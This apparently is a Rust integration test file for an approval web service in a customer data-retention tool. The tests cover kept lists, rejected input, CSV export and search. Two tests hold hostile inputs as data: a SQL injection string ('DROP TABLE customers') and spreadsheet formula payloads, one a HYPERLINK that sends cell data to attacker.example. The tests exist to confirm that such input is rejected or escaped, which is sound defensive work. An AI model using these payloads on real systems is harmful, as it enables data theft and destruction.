//! The approver's review through the links (SPEC 4), on both backends: approvals that count for
//! the kept list they were given for, hostile keep input, CSV cells a spreadsheet would run,
//! and an approver removed from the venue.

use crate::common::smtp::SmtpSink;
use crate::common::{delete_venue, TestApp, TestDb};
use chrono::{DateTime, SubsecRound, Utc};
use retentiond::cycle::{run_venue_cycle, Selection};
use retentiond::db::Query;
use retentiond::mail::{self, Mailer};
use retentiond::policy::ReportState;
use retentiond::{reports, Service};

const APPROVERS: &str = r#"approvers = ["Boxoffice@venue2.example", "dpo@venue2.example"]"#;

struct App {
    svc: Service,
    http: reqwest::Client,
    links: Vec<(String, String)>,
    report_id: i64,
    now: DateTime<Utc>,
}

impl App {
    /// A report of venue 2's idle customers, emailed to its approvers; the pages served.
    async fn start(db: &TestDb, required: u32, venue_extra: &str) -> App {
        let smtp = SmtpSink::start().await;
        let env = [
            ("RETENTIOND__MAIL__SMTP_URL", smtp.url()),
            ("RETENTIOND__APPROVAL__REQUIRED", required.to_string()),
        ];
        let venues = delete_venue(2, "3 years", venue_extra)
            .replace(r#"approvers = ["boxoffice@venue2.example"]"#, APPROVERS);
        let TestApp { svc, .. } = TestApp::spawn(db, &venues, &env).await;
        let now = Utc::now().trunc_subsecs(0);
        let venue = svc.config.venue(2).unwrap().clone();
        let Some(Selection::Created { report_id, .. }) = run_venue_cycle(&svc, &venue, now, false)
            .await
            .unwrap()
            .selection
        else {
            panic!("expected a report")
        };
        mail::deliver_due(&svc, &Mailer::from_config(&svc.config.mail).unwrap(), now)
            .await
            .unwrap();
        let links = smtp
            .mails()
            .iter()
            .filter(|m| m.subject().starts_with("Approval needed"))
            .map(|m| (m.to[0].clone(), m.link().unwrap()))
            .collect();
        App {
            svc,
            http: reqwest::Client::new(),
            links,
            report_id,
            now,
        }
    }

    fn link(&self, approver: &str) -> String {
        self.links
            .iter()
            .find(|(to, _)| to.to_lowercase().contains(approver))
            .unwrap()
            .1
            .clone()
    }

    async fn post(&self, url: &str, form: &[(&str, &str)]) -> (u16, String) {
        let r = self.http.post(url).form(form).send().await.unwrap();
        (r.status().as_u16(), r.text().await.unwrap())
    }

    async fn get(&self, url: &str) -> (u16, String) {
        let r = self.http.get(url).send().await.unwrap();
        (r.status().as_u16(), r.text().await.unwrap())
    }

    /// Follows `page`'s link to the next page or window ("Next page", "Search further").
    async fn follow_next(&self, link: &str, page: &str) -> String {
        let href = page
            .split("href=\"")
            .find(|h| h.contains("?after="))
            .expect("the page links to a next one")
            .split('"')
            .next()
            .unwrap()
            .replace("&amp;", "&");
        let base = link.split("/r/").next().unwrap();
        self.get(&format!("{base}{href}")).await.1
    }

    async fn state(&self) -> ReportState {
        reports::get(&self.svc.db, self.report_id)
            .await
            .unwrap()
            .unwrap()
            .state
    }
}

async fn idle_customers(db: &TestDb, n: usize) -> Vec<i64> {
    let mut ids = Vec::new();
    for _ in 0..n {
        let c = db.customer(2, "2019-01-01 00:00:00").await;
        db.order(c, "2020-05-05 10:00:00").await;
        ids.push(c);
    }
    ids
}

async fn an_approval_counts_for_the_kept_list_it_was_given_for(db: TestDb) {
    db.migrate().await;
    let idle = idle_customers(&db, 4).await;
    let app = App::start(&db, 2, "").await;
    let (boss, dpo) = (app.link("boxoffice"), app.link("dpo"));

    let (status, page) = app
        .post(&format!("{boss}/approve"), &[("confirm", "4")])
        .await;
    assert_eq!(status, 200, "{page}");
    assert!(page.contains("1 of 2"), "{page}");
    let (status, page) = app
        .post(
            &format!("{dpo}/keep"),
            &[
                ("ids", &idle[2].to_string()),
                ("reason", "complaint in progress"),
            ],
        )
        .await;
    assert_eq!(status, 200, "{page}");
    assert!(
        page.contains("Approvals given before this change no longer count"),
        "{page}"
    );

    let (_, boss_page) = app.get(&boss).await;
    assert!(
        boss_page.contains("your approval no longer counts"),
        "the earlier approver is told: {boss_page}"
    );
    assert!(
        boss_page.contains("complaint in progress") && boss_page.contains("dpo@venue2.example"),
        "every approver sees what the others kept"
    );
    assert!(boss_page.contains("(0 of 2 approvals)"), "{boss_page}");
    let (status, _) = app
        .post(&format!("{dpo}/approve"), &[("confirm", "4")])
        .await;
    assert_eq!(status, 422, "the count to type is the customers not kept");
    app.post(&format!("{dpo}/approve"), &[("confirm", "3")])
        .await;
    assert_eq!(
        app.state().await,
        ReportState::Pending,
        "one approval for the current list"
    );
    let (_, page) = app
        .post(&format!("{boss}/approve"), &[("confirm", "3")])
        .await;
    assert!(page.contains("the report is approved"), "{page}");
    assert_eq!(app.state().await, ReportState::Approved);

    let venue = app.svc.config.venue(2).unwrap().clone();
    run_venue_cycle(
        &app.svc,
        &venue,
        app.now + chrono::Duration::minutes(1),
        false,
    )
    .await
    .unwrap();
    assert!(
        db.customer_row(idle[2]).await.is_some(),
        "the kept customer is untouched"
    );
    for c in [idle[0], idle[1], idle[3]] {
        assert!(db.customer_row(c).await.is_none());
    }
}

async fn hostile_keep_input_changes_nothing(db: TestDb) {
    db.migrate().await;
    let idle = idle_customers(&db, 3).await;
    let bystander = db.customer(2, "2025-01-01 00:00:00").await;
    // 10,000 more on the same report, to keep at once.
    let mut q = Query::new(
        "INSERT INTO customers (venue_id, first_name, email, created_at) SELECT 2, 'Bulk', 'bulk@example.org', ",
    );
    q.bind(crate::common::t("2019-01-01 00:00:00"))
        .push(&format!(" FROM {}", crate::common::series(10_000)));
    db.db.execute(&q).await.unwrap();
    let app = App::start(&db, 1, "").await;
    let (boss, dpo) = (app.link("boxoffice"), app.link("dpo"));
    let kept = || async {
        db.count("SELECT COUNT(*) FROM retention_report_items WHERE kept_at IS NOT NULL")
            .await
    };

    let (status, page) = app
        .post(
            &format!("{boss}/keep"),
            &[("ids", &format!("{}, {bystander}, 999999", idle[0]))],
        )
        .await;
    assert_eq!(status, 422);
    assert!(
        page.contains(&format!("not on this report: {bystander}, 999999")),
        "{page}"
    );
    let (status, page) = app
        .post(
            &format!("{boss}/keep"),
            &[("ids", "12; DROP TABLE customers")],
        )
        .await;
    assert_eq!(status, 422);
    assert!(
        page.contains("&#34;DROP&#34; is not a customer id"),
        "{page}"
    );
    let (status, _) = app.post(&format!("{boss}/keep"), &[("ids", "")]).await;
    assert_eq!(status, 422);
    assert_eq!(kept().await, 0, "nothing was changed");

    let ids: Vec<String> = db
        .db
        .fetch_all(&Query::new(
            "SELECT id FROM customers WHERE first_name = 'Bulk' ORDER BY id",
        ))
        .await
        .unwrap()
        .iter()
        .map(|r| r.i64(0).unwrap().to_string())
        .collect();
    let started = std::time::Instant::now();
    let (status, page) = app
        .post(&format!("{boss}/keep"), &[("ids", &ids.join("\n"))])
        .await;
    eprintln!(
        "keep of {} ids answered in {:?}",
        ids.len(),
        started.elapsed()
    );
    assert_eq!(status, 200, "{}", &page[..page.len().min(500)]);
    assert!(
        page.contains("10000 customer(s) kept out of the report"),
        "{}",
        &page[..page.len().min(2000)]
    );
    assert_eq!(kept().await, 10_000);

    // After a decision: 409; on an expired link: 410.
    let (status, page) = app
        .post(&format!("{boss}/approve"), &[("confirm", "3")])
        .await;
    assert_eq!(status, 200, "{}", &page[..page.len().min(500)]);
    let (status, _) = app.post(&format!("{dpo}/keep"), &[("ids", &ids[0])]).await;
    assert_eq!(status, 409);
    let mut expire = Query::new("UPDATE retention_tokens SET expires_at = ");
    expire.bind(app.now - chrono::Duration::days(1));
    db.db.execute(&expire).await.unwrap();
    let (status, _) = app
        .post(&format!("{dpo}/unkeep"), &[("ids", &ids[0])])
        .await;
    assert_eq!(status, 410);
    assert_eq!(kept().await, 10_000);
}

async fn csv_cells_a_spreadsheet_would_run_are_escaped(db: TestDb) {
    db.migrate().await;
    let idle = idle_customers(&db, 6).await;
    let dangerous = [
        "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Click\")",
        "+44 1",
        "-1",
        "@SUM(A1)",
        "\tTab",
        "\rReturn",
    ];
    for (c, name) in idle.iter().zip(dangerous) {
        let mut q = Query::new("UPDATE customers SET first_name = ");
        q.bind(name).push(", last_name = NULL WHERE id = ").bind(*c);
        db.db.execute(&q).await.unwrap();
    }
    let app = App::start(&db, 1, "").await;
    let boss = app.link("boxoffice");
    app.post(&format!("{boss}/keep"), &[("ids", &idle[5].to_string())])
        .await;

    let (status, csv) = app.get(&format!("{boss}/report.csv")).await;

    assert_eq!(status, 200);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        ["customer_id", "name", "email", "last_activity", "kept"]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    for (row, name) in rows.iter().zip(dangerous) {
        assert_eq!(&row[1], format!("'{name}"), "prefixed so it stays text");
    }
    assert_eq!(
        &rows[0][3], "2020-05-05 11:00:00+01:00",
        "the venue's zone, with its offset"
    );
    assert_eq!(&rows[5][4], "yes");
    assert_eq!(&rows[0][4], "no");
}

async fn a_removed_approver_gets_403_and_decides_nothing(db: TestDb) {
    db.migrate().await;
    idle_customers(&db, 2).await;
    let app = App::start(&db, 1, "").await;
    let dpo = app.link("dpo");
    // The venue's approvers change: dpo@ is removed (and Boxoffice@ is written in lower case).
    let TestApp { base, .. } = TestApp::spawn(&db, &delete_venue(2, "3 years", ""), &[]).await;
    let old_base = dpo.split("/r/").next().unwrap().to_string();
    let (dpo, boss) = (
        dpo.replace(&old_base, &base),
        app.link("boxoffice").replace(&old_base, &base),
    );

    let (page, _) = app.get(&dpo).await;
    let (approve, _) = app
        .post(&format!("{dpo}/approve"), &[("confirm", "2")])
        .await;
    let (keep, _) = app.post(&format!("{dpo}/keep"), &[("ids", "1")]).await;
    let (boss_page, _) = app.get(&boss).await;

    assert_eq!((page, approve, keep), (403, 403, 403));
    assert_eq!(app.state().await, ReportState::Pending, "nothing decided");
    assert_eq!(boss_page, 200, "Boxoffice@ and boxoffice@ are one person");
}

async fn a_removed_approvers_approval_stops_counting(db: TestDb) {
    db.migrate().await;
    idle_customers(&db, 2).await;
    let app = App::start(&db, 2, "").await;
    let (dpo, boss) = (app.link("dpo"), app.link("boxoffice"));
    let (approved, _) = app
        .post(&format!("{dpo}/approve"), &[("confirm", "2")])
        .await;
    assert_eq!(approved, 200);
    // dpo@ leaves; cfo@ joins, so two approvals are still needed and possible.
    let venues = delete_venue(2, "3 years", "").replace(
        r#"approvers = ["boxoffice@venue2.example"]"#,
        r#"approvers = ["boxoffice@venue2.example", "cfo@venue2.example"]"#,
    );
    let env = [("RETENTIOND__APPROVAL__REQUIRED", "2".to_string())];
    let TestApp { base, .. } = TestApp::spawn(&db, &venues, &env).await;
    let boss = boss.replace(boss.split("/r/").next().unwrap(), &base);

    let (status, page) = app
        .post(&format!("{boss}/approve"), &[("confirm", "2")])
        .await;

    assert_eq!(status, 200);
    assert_eq!(
        app.state().await,
        ReportState::Pending,
        "the removed approver's approval does not make the second"
    );
    assert!(page.contains("(1 of 2 approvals)"), "{page}");
    assert!(
        page.contains("An approval given by dpo@venue2.example no longer counts"),
        "{page}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_customer_with_bytes_that_are_not_utf8_is_shown_and_erased() {
    let db = TestDb::sqlite().await;
    db.migrate().await;
    let ids = idle_customers(&db, 2).await;
    // SQLite keeps whatever bytes it is given: "Ja\xFFne".
    db.db
        .execute(&Query::new(&format!(
            "UPDATE customers SET first_name = CAST(X'4A61FF6E65' AS TEXT) WHERE id = {}",
            ids[0]
        )))
        .await
        .unwrap();
    let app = App::start(&db, 1, "").await;
    let link = app.link("boxoffice");

    let (page, html) = app.get(&link).await;
    let (csv_status, csv) = app.get(&format!("{link}/report.csv")).await;
    let (approved, _) = app
        .post(&format!("{link}/approve"), &[("confirm", "2")])
        .await;

    assert_eq!(page, 200);
    assert!(
        html.contains("Ja\u{FFFD}ne"),
        "shown with a replacement character"
    );
    assert_eq!(csv_status, 200);
    assert!(csv.contains("Ja\u{FFFD}ne"), "{csv}");
    assert_eq!(approved, 200);
    assert_eq!(app.state().await, ReportState::Approved);
    let venue = app.svc.config.venue(2).unwrap().clone();
    retentiond::cycle::run_venue_cycle(
        &app.svc,
        &venue,
        app.now + chrono::Duration::days(1),
        false,
    )
    .await
    .unwrap();
    assert_eq!(
        db.count(&format!(
            "SELECT COUNT(*) FROM customers WHERE id = {}",
            ids[0]
        ))
        .await,
        0,
        "the customer with the unreadable name was deleted with the others"
    );
}

/// 4,500 idle customers of venue 2 named Bulk Person, then Nina Needle with `email`, the last
/// of them; returns her id.
async fn bulk_then_one_needle(db: &TestDb, email: &str) -> i64 {
    db.migrate().await;
    let mut q = Query::new(
        "INSERT INTO customers (venue_id, first_name, last_name, email, created_at) SELECT 2, 'Bulk', 'Person', 'bulk@example.org', ",
    );
    q.bind(crate::common::t("2019-01-01 00:00:00"))
        .push(&format!(" FROM {}", crate::common::series(4_500)));
    db.db.execute(&q).await.unwrap();
    let mut q = Query::new("INSERT INTO customers (venue_id, first_name, last_name, email, created_at) VALUES (2, 'Nina', 'Needle', ");
    q.bind(email.to_string())
        .push(", ")
        .bind(crate::common::t("2019-01-01 00:00:00"))
        .push(")");
    db.db.execute(&q).await.unwrap();
    db.count("SELECT MAX(id) FROM customers").await
}

/// A search reads the report a window at a time: a name far into a large report is found by
/// following "Search further"; an id is found at once wherever it is.
async fn search_reads_a_window_at_a_time_and_finds_ids_at_once(db: TestDb) {
    let needle = bulk_then_one_needle(&db, "nina@example.org").await;
    let app = App::start(&db, 1, "").await;
    let link = app.link("boxoffice");

    // Part of a name is searched a window at a time.
    let (status, mut page) = app.get(&format!("{link}?q=eedl")).await;
    assert_eq!(status, 200);
    let mut windows = 1;
    while !page.contains("nina@example.org") {
        assert!(
            page.contains("Search further"),
            "the search stopped before the end: {page}"
        );
        assert!(
            page.contains("Searched the report&#x27;s customers up to id")
                || page.contains("Searched the report's customers up to id"),
            "{page}"
        );
        assert!(
            page.contains("within=names"),
            "the next window goes straight to the names, past the search index: {page}"
        );
        page = app.follow_next(&link, &page).await;
        windows += 1;
        assert!(
            windows <= 4_501_usize.div_ceil(retentiond::web::SEARCH_WINDOW as usize),
            "too many windows: {windows}"
        );
    }
    let window = retentiond::web::SEARCH_WINDOW as usize;
    assert!(
        windows >= 4_501_usize.div_ceil(window),
        "4,501 customers are searched {window} at a time: {windows}"
    );

    let (_, page) = app.get(&format!("{link}?q={needle}")).await;
    assert!(
        page.contains("nina@example.org"),
        "an id is found on the first page"
    );
    let (status, page) = app.get(&format!("{link}?q={}", needle + 1000)).await;
    assert_eq!(status, 200);
    assert!(
        page.contains(&format!(
            "No customer with id {} is on this report",
            needle + 1000
        )) && !page.contains("Search further"),
        "a number that is no id on the report is said so at once: {page}"
    );
}

/// A whole name or email is found anywhere in the report at once, through the report's search
/// index, without case, and page by page when many match; the index is gone once the report
/// leaves pending and approved.
async fn search_finds_whole_names_and_emails_anywhere_at_once(db: TestDb) {
    bulk_then_one_needle(&db, "Nina.Needle@Example.org").await;
    let app = App::start(&db, 1, "").await;
    let link = app.link("boxoffice");
    let whole = "found across the whole report";

    for search in [
        "needle",
        "NEEDLE",
        "Nina",
        "nina.needle@example.org",
        "Nina+Needle",
        "needle+nina",
    ] {
        let (status, page) = app.get(&format!("{link}?q={search}")).await;
        assert_eq!(status, 200);
        assert!(
            page.contains("Nina.Needle@Example.org") && page.contains(whole),
            "{search} is found on the first page through the index: {page}"
        );
        assert!(!page.contains("Search further"), "{page}");
        assert!(!page.contains("bulk@example.org"), "only the match: {page}");
    }
    let (_, page) = app.get(&format!("{link}?q=Nina+Person")).await;
    assert!(
        !page.contains(whole) && !page.contains("Nina.Needle@Example.org"),
        "every word must be a whole name of the customer: {page}"
    );

    // 4,500 matches, a page at a time.
    let (_, page) = app.get(&format!("{link}?q=bulk")).await;
    assert!(page.contains(whole) && page.contains("Next page"), "{page}");
    assert!(
        !page.contains("within=names"),
        "the next page asks the index: {page}"
    );
    assert_eq!(
        page.matches("bulk@example.org").count(),
        retentiond::web::PAGE_SIZE as usize
    );
    let next = app.follow_next(&link, &page).await;
    assert!(
        next.contains(whole) && next.contains("bulk@example.org"),
        "{next}"
    );
    assert!(!next.contains("Nina.Needle"), "{next}");

    let terms = format!(
        "SELECT COUNT(*) FROM retention_report_terms WHERE report_id = {}",
        app.report_id
    );
    assert_eq!(
        db.count(&terms).await,
        4_501 * 3,
        "every name and email is indexed"
    );
    app.post(&format!("{link}/reject"), &[("reason", "not now")])
        .await;
    assert_eq!(app.state().await, ReportState::Rejected);
    assert_eq!(
        db.count(&terms).await,
        0,
        "a decided report's index is deleted"
    );
}

on_both_backends!(
    search_reads_a_window_at_a_time_and_finds_ids_at_once,
    search_finds_whole_names_and_emails_anywhere_at_once,
    an_approval_counts_for_the_kept_list_it_was_given_for,
    hostile_keep_input_changes_nothing,
    csv_cells_a_spreadsheet_would_run_are_escaped,
    a_removed_approver_gets_403_and_decides_nothing,
    a_removed_approvers_approval_stops_counting,
);
